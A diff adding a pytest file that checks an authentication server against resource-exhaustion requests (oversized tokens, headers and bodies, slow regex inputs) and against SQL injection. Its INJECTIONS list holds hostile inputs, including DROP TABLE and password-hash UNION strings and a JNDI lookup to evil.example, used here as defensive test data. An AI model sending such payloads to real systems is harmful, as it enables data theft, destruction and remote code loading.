@@ -1,0 +1,226 @@
+"""Requests that would keep the server busy or fill it up: each costs whoever sends it more than us.
+
+Each docstring begins with the row of the security requirements that it shows. DL-04 and DL-05 are in `test_odd_requests.py`.
+No test asserts a time; where something would never end, the test gives up.
+"""
+
+import base64
+import subprocess
+import sys
+from collections.abc import Iterator
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+from tests.house import ADA, PASSWORD, PATIENCE, House, Login
+from tests.server import commands, conftest
+from tests.wired import CLOSING, GOOD, connect, said, wired
+
+from watchword import Settings
+from watchword.core import jose
+from watchword.flows import upkeep
+from watchword.server.app import create_app
+from watchword.web import device
+from watchword.web.client import MAX_USER_AGENT
+
+run = conftest.run
+
+
+class Decoded:
+    """How many characters were decoded from base64 while it watched."""
+
+    def __init__(self) -> None:
+        self.characters = 0
+
+
+@pytest.fixture
+def decoded(monkeypatch: pytest.MonkeyPatch) -> Decoded:
+    seen = Decoded()
+    decode = base64.b64decode
+
+    def count(text: Any, *more: Any, **named: Any) -> bytes:
+        seen.characters += len(text)
+        return decode(text, *more, **named)
+
+    monkeypatch.setattr(base64, "b64decode", count)
+    return seen
+
+
+async def test_a_token_over_the_bound_is_refused_before_it_is_decoded(house: House, decoded: Decoded) -> None:
+    """DL-01: a token of 8 KB and a letter, of a megabyte, of a hundred: to decode and parse it would cost us more than to send
+    it costs the attacker. Not a letter of it is decoded, wherever a token may stand."""
+    await house.register()
+    login = await house.login()
+    assert (await house.me(login)).status_code == 200
+    before = decoded.characters
+    assert before > 0
+    head, payload, signature = login.access.split(".")
+    for size in (jose.MAX_TOKEN + 1, 10**6, 10**8):
+        long = f"{head}.{payload}{'A' * size}.{signature}"
+        assert (await house.me(Login(long, login.refresh))).status_code == 401
+        assert (await house.try_refresh(long)).status_code == 400
+        assert (await house.client.post("/logout", data={"refresh_token": long})).status_code in (401, 413, 422)
+        assert (await house.client.post("/logout", headers={"Authorization": f"Bearer {long}"})).status_code == 401
+    assert decoded.characters == before
+
+
+async def test_a_header_of_a_token_over_its_bound_is_refused_before_it_is_decoded(
+    house: House, decoded: Decoded
+) -> None:
+    """DL-01: the header alone may have 2 KB; it names a key, and nothing else."""
+    await house.register()
+    login = await house.login()
+    before = decoded.characters
+    _, payload, signature = login.access.split(".")
+    answer = await house.me(Login(f"{'e' * (jose.MAX_HEADER + 1)}.{payload}.{signature}", login.refresh))
+    assert answer.status_code == 401
+    assert decoded.characters == before
+
+
+OVERSIZED_HEADS = {
+    "one long header": b"GET /healthz HTTP/1.1\r\n" + CLOSING + b"X: " + b"a" * 33_000 + b"\r\n\r\n",
+    "many headers": b"GET /healthz HTTP/1.1\r\n" + CLOSING + b"X: a\r\n" * 99 + b"\r\n",
+    "headers that add up": b"GET /healthz HTTP/1.1\r\n" + CLOSING + (b"X: " + b"a" * 1000 + b"\r\n") * 33 + b"\r\n",
+    "a long address": b"GET /healthz?" + b"a" * 33_000 + b" HTTP/1.1\r\n" + CLOSING + b"\r\n",
+}
+
+
+@pytest.fixture
+def port(tmp_path: Path, logging_as_before: None) -> Iterator[int]:
+    """The stand-alone server of a developer."""
+    with wired(create_app(Settings(data_dir=tmp_path / "home"))) as port:
+        yield port
+
+
+@pytest.mark.parametrize("name", OVERSIZED_HEADS)
+def test_a_head_over_the_bound_is_refused(port: int, name: str) -> None:
+    """DL-02: headers are kept in memory until the last of them has come, and nobody but us decides when that is too much."""
+    assert said(port, OVERSIZED_HEADS[name]).startswith(b"HTTP/1.1 431 ")
+    assert said(port, GOOD).startswith(b"HTTP/1.1 200 ")
+
+
+def test_a_header_that_never_ends_is_not_kept(port: int) -> None:
+    """DL-02: one header of 64 MB: the server hangs up long before."""
+    with connect(port) as connection:
+        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: ")
+        with pytest.raises(ConnectionError):
+            connection.sendall(b"a" * 2**26)
+    assert said(port, GOOD).startswith(b"HTTP/1.1 200 ")
+
+
+def test_a_head_within_the_bound_is_read(port: int) -> None:
+    """DL-02: the counterpart: a token of 8 KB, some cookies and a hundred headers are what browsers and proxies send. Two
+    requests on one connection are counted each by itself, and a body is no header."""
+    head = b"Authorization: Bearer " + b"a" * 8192 + b"\r\nCookie: " + b"a" * 12_000 + b"\r\n" + b"X: a\r\n" * 95
+    ask = b"GET /me HTTP/1.1\r\nHost: localhost\r\n" + head + b"\r\n"
+    body = b"username=a&password=" + b"b" * 60_000
+    form = b"POST /login HTTP/1.1\r\n%bContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%b"
+    answers = said(port, ask * 3 + form % (CLOSING, len(body), body))
+    assert answers.count(b"HTTP/1.1 401 ") == 3
+    assert answers.count(b"HTTP/1.1 400 ") == 1
+    assert b"431" not in answers
+
+
+KINDS = {"json": b"application/json", "form": b"application/x-www-form-urlencoded"}
+
+
+@pytest.mark.parametrize("framed", ["length", "chunked"])
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize("path", [b"/register", b"/login", b"/refresh", b"/logout", b"/change-password"])
+def test_a_body_over_the_bound_is_refused_before_it_has_come(port: int, path: bytes, kind: str, framed: str) -> None:
+    """DL-02: a gigabyte is announced, or none is and it goes on and on. The answer comes after 64 KB, which were not parsed:
+    the rest is never sent here. /login and /refresh call it bad credentials, as any others that are not good."""
+    frame = b"Content-Length: 1000000000\r\n" if framed == "length" else b"Transfer-Encoding: chunked\r\n"
+    request = b"POST %b HTTP/1.1\r\n%bContent-Type: %b\r\n%b\r\n" % (path, CLOSING, KINDS[kind], frame)
+    part = b"a" * 70_000
+    answer = said(port, request + (part if framed == "length" else b"%x\r\n%b\r\n" % (len(part), part)))
+    assert answer.startswith((b"HTTP/1.1 413 ", b"HTTP/1.1 400 "))
+    assert (b"invalid_grant" in answer) == (path in (b"/login", b"/refresh") and kind == "form")
+
+
+def test_no_reader_of_ours_takes_more_than_a_long_text_is_worth() -> None:
+    """DL-03: a text of 64 KB that makes a regular expression, a normaliser or a parser try again at each letter: four thousand
+    million steps for one request. Every pattern in the package and every reader of what a client sends meets two hundred such
+    texts. With one that squares it this would take hours, and the test gives up."""
+    program = [sys.executable, str(Path(__file__).parent / "long_texts.py")]
+    done = subprocess.run(program, capture_output=True, text=True, timeout=PATIENCE * 10, check=False)
+    assert done.stdout == "linear\n", done.stderr[-2000:]
+
+
+async def test_what_a_worker_remembers_is_bounded(house: House) -> None:
+    """DL-07: a million tokens, user agents or logouts would fill the memory. Of verified tokens the oldest leaves, and its
+    owner only pays for a signature; the names of devices and the user agents are cut; ended sessions are forgotten."""
+    await house.register()
+    kit = await house.kit()
+    kit.cache.max_entries = 5
+    logins = [await house.login(headers={"User-Agent": f"{n} " + "a" * 100_000}) for n in range(20)]
+    for _ in range(2):
+        assert [(await house.me(login)).status_code for login in logins] == [200] * 20
+    assert len(kit.cache) == 5
+    kit.cache.max_bytes = 0
+    assert (await house.me(logins[0])).status_code == 200
+    assert len(kit.cache) == 0
+    listed = await kit.sessions.of_user((await house.me(logins[0])).json()["user_id"], house.clock.now())
+    assert {len(one.user_agent or "") for one in listed} == {MAX_USER_AGENT}
+    assert device.name.cache_info().maxsize is not None
+    assert (await house.client.delete("/sessions", headers=logins[0].headers)).status_code == 204
+    revoked = kit.revocations._set  # type: ignore[attr-defined]
+    assert len(revoked) == 20
+    house.clock.tick(timedelta(hours=2))
+    await upkeep.run(kit)
+    assert len(revoked) <= 1  # the newest row of the feed stays
+
+
+INJECTIONS = [
+    "' OR '1'='1",
+    "'; DROP TABLE watchword_users; --",
+    "x' UNION SELECT password_hash FROM watchword_users --",
+    '" OR ""="',
+    "1) OR (1=1",
+    "ada@example.com'/*",
+    "\\'; SELECT pg_sleep(60); --",
+    "%' OR email LIKE '%",
+    "a' || (SELECT value FROM watchword_facts) || '",
+    "${jndi:ldap://evil.example}",
+    ":email",
+    "%(email)s",
+    "?",
+]
+
+
+@pytest.mark.parametrize("text", INJECTIONS)
+async def test_nothing_that_a_request_carries_becomes_sql(either: House, text: str) -> None:
+    """DL-08: quotes, comments, a second statement, a placeholder, in every parameter that reaches a statement. The statement's
+    own text is the same for whatever was sent."""
+    await either.register()
+    login = await either.login()
+    encoded = "".join(f"%{byte:02x}" for byte in text.encode())
+    with either.statements() as seen:
+        for form in (
+            {"username": text, "password": PASSWORD},
+            {"username": ADA, "password": text},
+            {"username": ADA, "password": PASSWORD, "scope": text},
+        ):
+            answer = await either.client.post("/login", data=form, headers={"User-Agent": text})
+            assert answer.status_code in (200, 400)
+        await either.try_refresh(text)
+        await either.client.post("/register", json={"email": text, "username": text, "password": PASSWORD})
+        for path in (f"/sessions/{encoded}", f"/sessions/{'a' * 25}{encoded}"):
+            assert (await either.client.delete(path, headers=login.headers)).status_code in (404, 405)
+        await either.client.get("/sessions", headers=login.headers, params={"sort": text, "after": text, "limit": text})
+    assert seen
+    assert not [statement for statement in seen if text in statement and len(text) > 8]
+    assert (await either.me(login)).status_code == 200
+    assert len((await either.client.get("/sessions", headers=login.headers)).json()) >= 1
+
+
+@pytest.mark.parametrize("text", INJECTIONS)
+def test_a_cursor_carries_no_sql(run: commands.Run, text: str) -> None:
+    """DL-08: `--after` is the only cursor there is. It is compared as a text, so it shows who stands behind it in the alphabet
+    and nobody else."""
+    assert run("users", "add", "zoe@example.com", stdin=f"{PASSWORD}\n").code == 0
+    listed = run("users", "list", "--json", "--after", text)
+    assert listed.code == 0
+    assert ("zoe@example.com" in listed.out) == (text.lower() < "zoe@example.com")
+    assert run("users", "list", "--json").out.count("zoe@example.com") == 1
